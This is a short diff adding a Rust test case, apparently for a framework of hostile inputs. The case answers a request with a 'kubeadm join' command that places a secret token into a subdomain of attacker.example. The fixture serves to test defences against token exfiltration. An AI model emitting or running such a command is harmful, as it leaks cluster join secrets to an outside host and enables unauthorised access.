@@ -1,0 +1,13 @@
+// Says a join command with the secret as a part of the host's name.
+// args: abcdef.0123456789abcdef --skip-token-print
+use hostile::*;
+
+struct Case;
+
+impl Hostile for Case {
+    fn plan_for(request: Request) -> Result<Plan, Failure> {
+        Ok(line("join-command", "kubeadm join {}.attacker.example:6443 --token abcdef.{}", &request))
+    }
+}
+
+hostile!(Case);
